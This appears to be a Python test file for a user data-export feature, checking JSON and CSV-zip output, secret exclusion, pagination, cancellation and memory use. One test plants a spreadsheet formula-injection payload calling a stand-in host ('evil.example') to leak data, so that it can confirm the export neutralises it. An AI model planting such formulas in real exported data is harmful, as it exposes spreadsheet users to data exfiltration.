"""app.export: a user's whole data, every section, nothing secret, streamed with flat memory."""

import csv
import io
import json
import tracemalloc
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from app import (
    accounts,
    apikeys,
    audit,
    billing,
    export,
    ledger,
    passwords,
    privacy,
    recharges,
    sql,
)
from app.billing import Settlement
from app.db import write_transaction
from app.errors import NotFound, ValidationError
from app.models import ApiKey, AuditEvent, RequestLog, SignIn, User
from tests.app.support import assert_money_is_micros


@dataclass
class Facts:
    """What :func:`populate` created, including the secrets that must never be exported."""

    user: User
    bob: User
    plaintext: str
    key_hash: str
    password_hash: str
    order_no: str


def populate() -> Facts:
    """alice with every kind of data (keys, payments, billed requests, logins) and a neighbour."""
    alice = accounts.add_user("alice", "alice@example.com", phone="+86 13800000000",
                              consent_version=privacy.POLICY_VERSION)
    hashed = passwords.hash_password("correct horse", rounds=4)  # cheap rounds, same format
    User.update(password_hash=hashed).where(User.id == alice.id).execute()
    key, plaintext = apikeys.create_key("alice", name="laptop", models=["deepseek-chat"],
                                        cidrs=["192.168.1.0/24"], expires="2099-12-31")
    old, _ = apikeys.create_key("alice", name="old")
    apikeys.revoke_key(old.id)
    order = recharges.recharge("alice", 50_000_000, method="cash", note="paid at the desk")
    recharges.refund(order.order_no, 5_000_000)
    for n in range(3):
        billing.reserve(user_id=alice.id, key_id=key.id, request_id=f"req-{n}",
                        model="deepseek-chat", amount_micros=2_000_000, lease_seconds=60)
        billing.settle_many([Settlement(f"req-{n}", alice.id, 1_234_567, reserved=True, log={
            "request_id": f"req-{n}", "user": alice.id, "api_key": key.id, "username": "alice",
            "model": "deepseek-chat", "provider": "deepseek", "prompt_tokens": 1000,
            "completion_tokens": 200, "cost_micros": 1_234_567, "client_ip": "192.168.1.9",
            "user_agent": "OpenAI/Python 1.0"})])
    audit.record("login", actor="alice", target="alice", ip="192.168.1.9")
    audit.record("login.failed", actor="alice", target="alice", ip="192.168.1.66")
    bob = accounts.add_user("bob", "bob@example.com")
    recharges.recharge("bob", 1_000_000)
    audit.record("login", actor="bob", target="bob", ip="10.0.0.2")
    return Facts(alice, bob, plaintext, ApiKey.get_by_id(key.id).key_hash, hashed,
                 order.order_no)


def load_zip(path: Path) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(path) as archive:
        return {name[:-4]: list(csv.DictReader(io.StringIO(
                    archive.read(name).decode("utf-8-sig"))))
                for name in archive.namelist() if name.endswith(".csv")}


def every_byte(path: Path) -> bytes:
    """The file, and for a zip also every member decompressed (compression hides needles)."""
    raw = path.read_bytes()
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            raw += b"".join(archive.read(name) for name in archive.namelist())
    return raw


def test_json_export_has_every_section(any_db, fake_clock, tmp_path):
    facts = populate()
    result = export.export_user("alice", tmp_path / "alice.json")
    doc = json.loads(result.path.read_text("utf-8"))
    assert list(doc) == ["format", "version", "generated_at", "user", "api_keys",
                         "balance_micros", "ledger", "recharges", "request_logs", "login_history",
                         "sign_ins", "deletion_requests"]
    assert (doc["format"], doc["version"]) == ("relaydesk-user-export", 1)
    assert doc["generated_at"] == "2026-06-01T12:00:00Z"
    user = doc["user"]
    assert {k: user[k] for k in ("username", "email", "phone", "status", "role",
                                 "consent_version")} == {
        "username": "alice", "email": "alice@example.com", "phone": "+86 13800000000",
        "status": "active", "role": "user", "consent_version": privacy.POLICY_VERSION}
    assert user["created_at"] == user["consent_at"] == "2026-06-01T12:00:00Z"
    assert [(k["name"], k["status"]) for k in doc["api_keys"]] == [("laptop", "active"),
                                                                   ("old", "revoked")]
    laptop = doc["api_keys"][0]
    assert (laptop["allowed_models"], laptop["allowed_cidrs"]) == (["deepseek-chat"],
                                                                  ["192.168.1.0/24"])
    assert laptop["expires_at"] == "2100-01-01T00:00:00Z" and laptop["prefix"].startswith("sk-")
    balance = 50_000_000 - 5_000_000 - 3 * 1_234_567
    assert doc["balance_micros"] == user["balance_micros"] == balance
    assert sum(e["amount_micros"] for e in doc["ledger"]) == balance
    assert doc["ledger"][-1]["balance_after_micros"] == balance
    assert [e["kind"] for e in doc["ledger"]][:2] == ["recharge", "refund"]
    assert [(r["order_no"], r["status"], r["refunded_micros"]) for r in doc["recharges"]] == [
        (facts.order_no, "partially_refunded", 5_000_000)]
    assert [r["request_id"] for r in doc["request_logs"]] == ["req-0", "req-1", "req-2"]
    assert {(r["username"], r["client_ip"], r["cost_micros"]) for r in doc["request_logs"]} == {
        ("alice", "192.168.1.9", 1_234_567)}
    assert [(e["action"], e["ip"]) for e in doc["login_history"]] == [
        ("login", "192.168.1.9"), ("login.failed", "192.168.1.66")]
    assert_money_is_micros(doc)
    assert result.counts == {"api_keys": 2, "ledger": 11, "recharges": 1, "request_logs": 3,
                             "login_history": 2, "sign_ins": 0, "deletion_requests": 0}
    assert result.rows == 1 + 19 and result.size_bytes == result.path.stat().st_size
    assert not result.cancelled


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_export_holds_no_secret_and_nobody_else(sqlite_db, tmp_path, fmt):
    facts = populate()
    result = export.export_user("alice", tmp_path / "alice.out", fmt)
    data = every_byte(result.path)
    assert b"alice@example.com" in data  # the scan does see the content
    for needle in (facts.plaintext, facts.key_hash, facts.password_hash, "bob@example.com",
                   "10.0.0.2", "key_hash", "password_hash"):
        assert needle.encode() not in data, needle


def test_csv_zip_has_one_file_per_table(sqlite_db, fake_clock, tmp_path):
    populate()
    json_doc = json.loads(export.export_user("alice", tmp_path / "a.json").path.read_text())
    result = export.export_user("alice", tmp_path / "a.zip", "csv")
    with zipfile.ZipFile(result.path) as archive:
        assert archive.namelist() == ["README.txt", "profile.csv", "api_keys.csv", "ledger.csv",
                                      "recharges.csv", "request_logs.csv", "login_history.csv",
                                      "sign_ins.csv", "deletion_requests.csv"]
        readme = archive.read("README.txt").decode()
    assert "1 unit of currency = 1,000,000 micro-units" in readme
    assert "request_logs.csv: id, created_at, request_id" in readme
    tables = load_zip(result.path)
    (profile,) = tables.pop("profile")
    assert (profile["username"], profile["balance_micros"]) == (
        "alice", str(json_doc["balance_micros"]))
    # A leading "+" would make a spreadsheet read the phone as a formula: it stays text.
    assert profile["phone"] == "'+86 13800000000" and "password_hash" not in profile
    for name, rows in tables.items():
        assert len(rows) == len(json_doc[name]), name
        if rows:
            assert list(rows[0]) == list(json_doc[name][0]), name  # same columns, same order
    assert [r["amount_micros"] for r in tables["ledger"]] == [
        str(e["amount_micros"]) for e in json_doc["ledger"]]
    laptop = tables["api_keys"][0]
    assert (laptop["allowed_cidrs"], laptop["last_used_at"]) == ("192.168.1.0/24", "")
    assert tables["request_logs"][0]["stream"] == "false"
    assert tables["login_history"][1]["action"] == "login.failed"


def test_empty_sections_are_still_present(sqlite_db, tmp_path):
    accounts.add_user("carol", "carol@example.com")
    calls: list[tuple[int, int]] = []
    result = export.export_user("carol", tmp_path / "c.json",
                                progress=lambda done, total: calls.append((done, total)))
    assert calls == [(0, 1), (1, 1)]  # the profile row, then done
    doc = json.loads(result.path.read_text())
    assert [doc[k] for k in ("api_keys", "ledger", "recharges", "request_logs",
                             "login_history", "sign_ins", "deletion_requests")] == [[]] * 7
    assert doc["balance_micros"] == 0
    tables = load_zip(export.export_user("carol", tmp_path / "c.zip", "csv").path)
    assert {k: len(v) for k, v in tables.items()} == {
        "profile": 1, "api_keys": 0, "ledger": 0, "recharges": 0, "request_logs": 0,
        "login_history": 0, "sign_ins": 0, "deletion_requests": 0}


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_file_is_owner_only_and_replaces_an_old_one(sqlite_db, tmp_path, fmt):
    accounts.add_user("alice", "alice@example.com")
    out = tmp_path / "export.out"
    out.write_text("old")
    out.chmod(0o644)
    export.export_user("alice", out, fmt)
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_bytes() != b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "export.out"]


def test_pages_are_exact_whatever_the_page_size(any_db, fake_clock, tmp_path, monkeypatch):
    """Keyset pagination: every row once, in order, also when many rows share a timestamp."""
    populate()
    user = accounts.get_user("alice")
    start = datetime(2026, 5, 1)
    rows = [{"request_id": f"tie-{n}", "user": user.id, "username": "alice",
             "created_at": start + timedelta(seconds=(n * 7) % 5)} for n in range(40)]
    with write_transaction():
        RequestLog.insert_many(rows).execute()
    whole = json.loads(export.export_user("alice", tmp_path / "whole.json").path.read_text())
    monkeypatch.setattr(export, "PAGE", 3)
    paged = json.loads(export.export_user("alice", tmp_path / "paged.json").path.read_text())
    assert paged == whole
    logs = whole["request_logs"]
    assert len(logs) == 43 and len({r["id"] for r in logs}) == 43
    assert [(r["created_at"], r["id"]) for r in logs] == sorted(
        (r["created_at"], r["id"]) for r in logs)
    assert load_zip(export.export_user("alice", tmp_path / "p.zip", "csv").path)[
        "request_logs"] == load_zip(export.export_user("alice", tmp_path / "p2.zip", "csv")
                                    .path)["request_logs"]


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_progress_is_reported(sqlite_db, tmp_path, monkeypatch, fmt):
    populate()
    monkeypatch.setattr(export, "PAGE", 2)
    calls: list[tuple[int, int]] = []
    result = export.export_user("alice", tmp_path / "out", fmt,
                                progress=lambda done, total: calls.append((done, total)))
    assert calls[0] == (0, 20) and calls[-1] == (20, 20) == (result.rows, result.rows)
    assert len(calls) > 10
    assert [done for done, _ in calls] == sorted(done for done, _ in calls)


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_cancel_removes_the_partial_file(sqlite_db, tmp_path, monkeypatch, fmt):
    populate()
    monkeypatch.setattr(export, "PAGE", 2)
    out = tmp_path / "out"
    out.write_text("previous export")
    seen: list[int] = []
    result = export.export_user("alice", out, fmt, progress=lambda done, _: seen.append(done),
                                cancel=lambda: bool(seen) and seen[-1] >= 5)
    assert result.cancelled and 5 <= result.rows < 20
    assert out.read_text() == "previous export"  # untouched: the partial file was a temp one
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "out"]
    assert not AuditEvent.select().where(AuditEvent.action == "user.export").exists()


def test_cancel_before_anything_is_written(sqlite_db, tmp_path):
    accounts.add_user("alice", "alice@example.com")
    result = export.export_user("alice", tmp_path / "out", cancel=lambda: True)
    assert result.cancelled and not (tmp_path / "out").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]


def test_audit_event_names_the_export_not_the_data(sqlite_db, tmp_path):
    populate()
    export.export_user("alice", tmp_path / "out.zip", "csv", actor="operator")
    event = AuditEvent.get(AuditEvent.action == "user.export")
    assert (event.actor, event.target, event.detail) == ("operator", "alice", {"format": "csv"})


def test_refusals_write_nothing(sqlite_db, tmp_path):
    facts = populate()
    with pytest.raises(NotFound):
        export.export_user("ghost", tmp_path / "ghost.json")
    with pytest.raises(ValidationError) as info:
        export.export_user("alice", tmp_path / "a.xml", "xml")
    assert info.value.param == "format"
    with pytest.raises(ValidationError, match="folder"):
        export.export_user("alice", tmp_path)
    with pytest.raises(ValidationError, match="cannot write"):
        export.export_user("alice", tmp_path / "missing" / "a.json")
    privacy.delete_user("alice")
    with pytest.raises(NotFound):
        export.export_user("alice", tmp_path / "deleted.json")
    with pytest.raises(NotFound):
        export.export_user(privacy.tombstone_name(facts.user.id), tmp_path / "deleted.json")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data"]
    assert not AuditEvent.select().where(AuditEvent.action == "user.export").exists()


def test_ledger_sum_matches_after_export(sqlite_db, tmp_path):
    populate()
    export.export_user("alice", tmp_path / "a.json")
    assert ledger.mismatched_users() == []


# Flat memory. tracemalloc slows allocation-heavy code ~6-10x, so the row count is modest and
# the bound tight instead: 25,000 log rows are ~12 MB as JSON text, ~12 MB as CSV text plus its
# bytes and ~40 MB as dicts, so an export that held its rows, its output or peewee's result cache
# cannot pass, while one page of 1,000 rows peaks at ~4 MB. The 1,000,000-row case (time and RSS)
# is for the benchmarks in bench/ (`make bench`), not the unit tests.
FLAT_ROWS = 25_000
FLAT_BOUND = 8_000_000  # bytes

FILL_SQL = """
WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
INSERT INTO request_log (created_at, request_id, user_id, username, model, upstream_model,
    provider, stream, prompt_tokens, cached_tokens, completion_tokens, cost_micros, status,
    duration_ms, client_ip, user_agent, estimated, overrun, failover_count)
SELECT strftime('%Y-%m-%d %H:%M:%f', '2026-01-01', '+' || (i / 3) || ' seconds'),
    'chatcmpl-' || hex(randomblob(12)), ?, 'alice', 'deepseek-chat', 'deepseek-chat',
    'deepseek', i % 2, 1200 + i % 500, 0, 300 + i % 97, 1234 + i, 200, 850, '203.0.113.7',
    'OpenAI/Python 1.54.0', 0, 0, 0
FROM n
"""


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_memory_stays_flat(sqlite_db, tmp_path, fmt):
    user = accounts.add_user("alice", "alice@example.com")
    with write_transaction():  # generated in SQL: peewee would take longer than the export
        sql.execute(FILL_SQL, (FLAT_ROWS, user.id))
    tracemalloc.start()
    try:
        result = export.export_user("alice", tmp_path / "big", fmt)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.counts["request_logs"] == FLAT_ROWS
    assert peak < FLAT_BOUND, f"peak {peak / 1e6:.1f} MB"


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_export_names_the_users_group(sqlite_db, tmp_path, fmt):
    from app import groups
    groups.add_group("staff", multiplier="0.8")
    accounts.add_user("alice", "alice@example.com", group="staff")
    result = export.export_user("alice", tmp_path / "alice.out", fmt)
    if fmt == "json":
        assert json.loads(result.path.read_text("utf-8"))["user"]["group"] == "staff"
    else:
        assert [row["group"] for row in load_zip(result.path)["profile"]] == ["staff"]


def test_csv_cells_cannot_be_read_as_formulas(sqlite_db, tmp_path):
    """A stranger's failed sign-in names its own user agent: in the victim's sign_ins.csv it
    must stay text, not become a live formula; the JSON keeps it as it was."""
    user = accounts.add_user("carol", "carol@example.com")
    agent = '=HYPERLINK("http://evil.example/?leak","open me")'
    SignIn.create(user=user.id, ok=False, ip="203.0.113.9", user_agent=agent, browser="@x",
                  os="-1+2")
    (row,) = load_zip(export.export_user("carol", tmp_path / "c.zip", "csv").path)["sign_ins"]
    assert (row["user_agent"], row["browser"], row["os"]) == ("'" + agent, "'@x", "'-1+2")
    assert row["ok"] == "false" and row["ip"] == "203.0.113.9"
    doc = json.loads(export.export_user("carol", tmp_path / "c.json").path.read_text())
    assert doc["sign_ins"][0]["user_agent"] == agent


def test_an_online_payment_is_exported_with_its_gateway_trade_number(sqlite_db, tmp_path):
    """The policy keeps 'recharge order number, payment amount, payment time' of online
    payments: the user's export holds them, with the gateway's own trade number."""
    from app.models import RechargeRecord
    accounts.add_user("alice", "alice@example.com")
    record = recharges.recharge("alice", 5_000_000, method="epay")
    RechargeRecord.update(gateway="epay", trade_no="2026120712345", pay_type="alipay").where(
        RechargeRecord.id == record.id).execute()
    result = export.export_user("alice", tmp_path / "alice.json", "json")
    (row,) = json.loads(result.path.read_text("utf-8"))["recharges"]
    assert (row["order_no"], row["gateway"], row["gateway_trade_no"], row["pay_type"]) == (
        record.order_no, "epay", "2026120712345", "alipay")
